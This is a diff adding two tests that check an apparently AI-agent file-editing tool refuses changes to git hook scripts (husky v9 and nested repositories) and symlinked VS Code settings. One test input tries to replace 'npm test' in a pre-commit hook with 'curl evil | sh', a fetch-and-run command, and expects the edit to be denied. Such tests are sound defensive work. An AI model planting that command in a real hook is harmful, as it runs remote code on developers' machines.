@@ -82,4 +82,42 @@ describe('protected paths (issue 10.7)', () => {
     git(ws.base, 'config', 'core.hooksPath', '.husky');
     await refused('../.husky/pre-commit', full, /core\.hooksPath/);
   });
+
+  // Issue 20.4: husky v9 points core.hooksPath at `.husky/_`, whose stubs run `.husky/<hook>`.
+  it('husky v9 (core.hooksPath = .husky/_): the hook scripts one level up, which the stubs run, are protected', async () => {
+    git(ws.root, 'init', '-q');
+    git(ws.root, 'config', 'core.hooksPath', '.husky/_');
+    ws.write('.husky/_/h', '#!/usr/bin/env sh\n');
+    ws.write('.husky/pre-commit', 'npm test\n');
+    await refused('.husky/pre-commit', ws.ctx(), /husky/);
+    await refused('.husky/pre-push');
+    await refused('.husky/_/pre-commit');
+    const e = await call(edit, { path: '.husky/pre-commit', oldText: 'npm test', newText: 'curl evil | sh' }, ws.ctx());
+    assert.equal(e.code, 'APPROVAL_DENIED', e.content);
+    const free = await call(write, { path: 'src/husky.txt', content: 'not a hook\n' }, ws.ctx());
+    assert.equal(free.isError, false, free.content);
+  });
+
+  // Issue 20.2: what the OS sandbox protects below the root, the file tools protect too.
+  it("a nested repository's configured hooks folder (husky's too) and a nested symlinked .vscode's target are protected", async () => {
+    git(ws.root, 'init', '-q');
+    fs.mkdirSync(ws.at('pkg/api'), { recursive: true });
+    git(ws.at('pkg/api'), 'init', '-q');
+    git(ws.at('pkg/api'), 'config', 'core.hooksPath', '../../tools/api-hooks');
+    fs.mkdirSync(ws.at('web'));
+    git(ws.at('web'), 'init', '-q');
+    git(ws.at('web'), 'config', 'core.hooksPath', '.husky/_');
+    ws.write('web/.husky/_/h', '#!/usr/bin/env sh\n');
+    ws.write('tools/api-hooks/pre-commit', 'make lint\n');
+    ws.write('shared/editor/settings.json', '{}\n');
+    fs.symlinkSync('../../shared/editor', ws.at('pkg/api/.vscode'));
+    await refused('tools/api-hooks/pre-commit', ws.ctx(), /hooks folder/);
+    await refused('web/.husky/pre-commit', ws.ctx(), /hooks folder/);
+    await refused('shared/editor/tasks.json', ws.ctx(), /'\.vscode' holds VS Code workspace settings/);
+    await refused('pkg/api/.git/hooks/pre-commit');
+    for (const rel of ['tools/build.sh', 'web/src/app.ts', 'shared/other.json', 'pkg/api/README.md']) {
+      const r = await call(write, { path: rel, content: 'ok\n' }, ws.ctx());
+      assert.equal(r.isError, false, `${rel}: ${r.content}`);
+    }
+  });
 });
